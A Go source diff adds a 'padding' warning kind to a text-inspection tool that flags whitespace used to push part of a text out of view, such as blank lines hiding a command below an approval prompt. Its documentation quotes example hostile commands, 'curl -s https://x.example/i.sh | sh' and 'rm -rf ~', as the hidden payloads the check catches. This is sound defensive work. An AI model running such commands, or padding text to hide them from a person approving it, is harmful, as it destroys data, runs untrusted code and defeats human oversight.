@@ -29,6 +29,7 @@ var kindNames = names.Table[Kind]{
 	"whole_script_confusable",
 	"uncommon_character",
 	"combining_marks",
+	"padding",
 }
 
 // kinds holds what kinds.txtar says of each Kind besides its name.
@@ -170,6 +171,12 @@ var kinds = [numKinds]kindInfo{
 		summary:  "More than four combining marks on one base, or the same mark twice, which draws over text or hides a repeat.",
 		explain:  []template{{"", "`$token` stacks more than $max combining marks on one letter, which can draw over neighbouring text"}, {"repeat", "`$token` repeats the combining mark $name on one letter; it shows once but is there twice"}},
 		doc:      "More than four nonspacing marks in a row on one base, which can draw over\nneighbouring text (`\"a\\u0300\\u0301\\u0302\\u0303\\u0304\"`), or the same mark\ntwice on one base, which shows once but is there twice (`\"e\\u0301\\u0301\"`).\nMarks are counted as written, without normalizing first; variation\nselectors are left to `variation_selectors`.\n",
+	},
+	{
+		severity: 0x0,
+		summary:  "Whitespace alone that pushes part of the text out of view: many blank lines, a wide run of spaces before more text, or a line far wider than a screen.",
+		explain:  []template{{"", "`$token` in a row can scroll the text before them out of view, or push the text after them below a prompt"}, {"spaces", "`$token` before more text on the same line push that text past the edge of a view that does not wrap, or a screen away from the start of its line"}, {"line", "a `$token` runs far past the edge of a screen: its end is out of view wherever lines are not wrapped"}},
+		doc:      "Text can hide part of itself with nothing but whitespace, no special\ncharacter at all: an approval prompt that shows `\"echo hello\"` followed by\na hundred blank lines and `\"curl -s https://x.example/i.sh | sh\"` shows\nonly the harmless part on the screen the question is asked on. Three\nshapes warn:\n\n- five or more blank lines in a row (lines holding only spaces, tabs and\n  carriage returns): `\"ls\\n\\n\\n\\n\\n\\nrm -rf ~\"`;\n- a run of spaces and tabs 64 columns wide or more (a tab counting as\n  eight) before more text on the same line: `\"ls\" + 80 spaces + \"; rm -rf ~\"`;\n- a line of more than 1,024 characters.\n\nText and Original keep every character; render.Terminal and render.HTML\nfold each run of blank lines or spaces into a marker with its size, the\nwarning's token (`⟨120 blank lines⟩`, `⟨8,000 spaces⟩`), and mark a wide\nline. The thresholds sit above what prose, code and commands use for\nlayout (a blank line or two between paragraphs, indentation and aligned\ncolumns well under a screen's width), and below what a window or a dialog\nholds. The warning places its first 64 runs (`MaxLocations`); Count\ncounts them all.\n",
 	},
 }
 
